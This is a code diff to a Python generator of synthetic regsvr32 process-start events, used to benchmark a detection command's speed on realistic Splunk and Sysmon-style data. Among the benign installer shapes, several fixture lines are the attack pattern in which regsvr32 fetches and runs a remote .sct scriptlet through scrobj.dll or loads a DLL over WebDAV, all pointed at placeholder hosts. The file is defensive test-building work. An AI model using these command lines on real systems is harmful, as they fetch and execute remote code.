@@ -97,6 +97,59 @@ def regsvr32_rows(n, rnd):
     return [rnd.choice(makers)() for _ in range(n)]
 
 
+# Stream (a)/(b) of the issue "speed on the real workload": what `regsvr32_events` or the tstats
+# pre-filter hands the command, every row a regsvr32 process start. Shapes: (weight, maker of a
+# command line and parent from a per-row token, which makes the line unique in stream (a)).
+VENDORS = ["Contoso", "Fabrikam", "Northwind", "Adatum", "Litware", "Tailspin", "Wingtip", "Proseware"]
+PARENT_OF = {"installer": S32 + "msiexec.exe", "user": "C:\\Windows\\explorer.exe",
+             "office": PF + "Microsoft Office\\root\\Office16\\WINWORD.EXE", "cmd": S32 + "cmd.exe",
+             "script": S32 + "wscript.exe"}
+SHAPES = [
+    (30, "installer", lambda t, r: '"%sregsvr32.exe" /s "%s%s\\%s %d\\%s%d.dll"' % (
+        S32, r.choice([PF, PF86]), r.choice(VENDORS), r.choice(["Agent", "Shell", "Viewer"]), t % 97,
+        r.choice(["core", "shellext", "ui"]), t)),
+    (15, "installer", lambda t, r: "regsvr32.exe /s /u \"%s%s\\Tools\\v%d\\plugin%d.ocx\"" % (
+        PF86, r.choice(VENDORS), t % 13, t)),
+    (15, "user", lambda t, r: '"%sregsvr32.exe" /s /n /i:user "C:\\Users\\u%d\\AppData\\Local\\Microsoft\\'
+        'TeamsMeetingAddin\\1.0.%d\\x64\\Microsoft.Teams.AddinLoader.dll"' % (
+            "C:\\Windows\\SysWOW64\\", t % 5000, 20000 + t)),
+    (8, "user", lambda t, r: "regsvr32 /s C:\\Users\\u%d\\AppData\\Roaming\\Zoom\\bin\\zoom_outlook_%d.dll" % (
+        t % 5000, t)),
+    (8, "office", lambda t, r: "regsvr32 /s C:\\Users\\u%d\\AppData\\Local\\Temp\\%x.%s" % (
+        t % 5000, t * 7919, r.choice(["dll", "jpg", "dat", "tmp"]))),
+    (6, "cmd", lambda t, r: "regsvr32.exe /s /n /u /i:http://198.51.100.%d/%x.sct scrobj.dll" % (t % 250, t)),
+    (4, "script", lambda t, r: "regsvr32 -s -i:https://cdn%d.example.net/a/%x.sct scrobj.dll" % (t % 40, t)),
+    (4, "cmd", lambda t, r: "regsvr32.exe /s \\\\files%d.example@SSL\\DavWWWRoot\\%x.dll" % (t % 30, t)),
+    (5, "cmd", lambda t, r: "regsvr32 /s C:\\ProgramData\\%x\\%x.ocx" % (t, t * 31)),
+    (5, "installer", lambda t, r: "regsvr32.exe /s %sRpcProxy\\RpcProxy%d.dll" % (S32, t)),
+]
+FORMS = ("cim", "tstats", "sysmon", "4688")
+
+
+def regsvr32_stream(n, rnd, distinct=None):
+    """N regsvr32 process starts in CIM, tstats, Sysmon 1 and 4688 forms. DISTINCT None: no
+    command line repeats (stream a); else lines come from DISTINCT tokens, a few installers on
+    many hosts and a long tail of one-off lines (stream b: token drawn with a Zipf-like weight)."""
+    weights = [w for w, _, _ in SHAPES]
+    rows = []
+    for i in range(n):
+        token = i if distinct is None else int(distinct ** rnd.random()) - 1
+        shape_rnd = random.Random(token)          # one token gives one line, on every host
+        _, parent_kind, make = shape_rnd.choices(SHAPES, weights)[0]
+        line, parent = make(token, shape_rnd), PARENT_OF[parent_kind]
+        form = FORMS[i % len(FORMS)]
+        host, user = rnd.choice(HOSTS), rnd.choice(USERS)
+        if form in ("cim", "tstats"):
+            row = ev.cim(line, parent=parent, dest=host, user=user,
+                         prefix="Processes." if form == "tstats" else "")
+        elif form == "sysmon":
+            row = ev.sysmon1(line, parent=parent, computer=host, user=user)
+        else:
+            row = ev.sec4688_classic(line, parent=parent)
+        rows.append(row)
+    return rows
+
+
 def unique_lines(rows):
     """The same rows with every command line, path and query made unique (a per-row token), so
     no cache in the detector can help: the cost of a stream in which nothing repeats."""
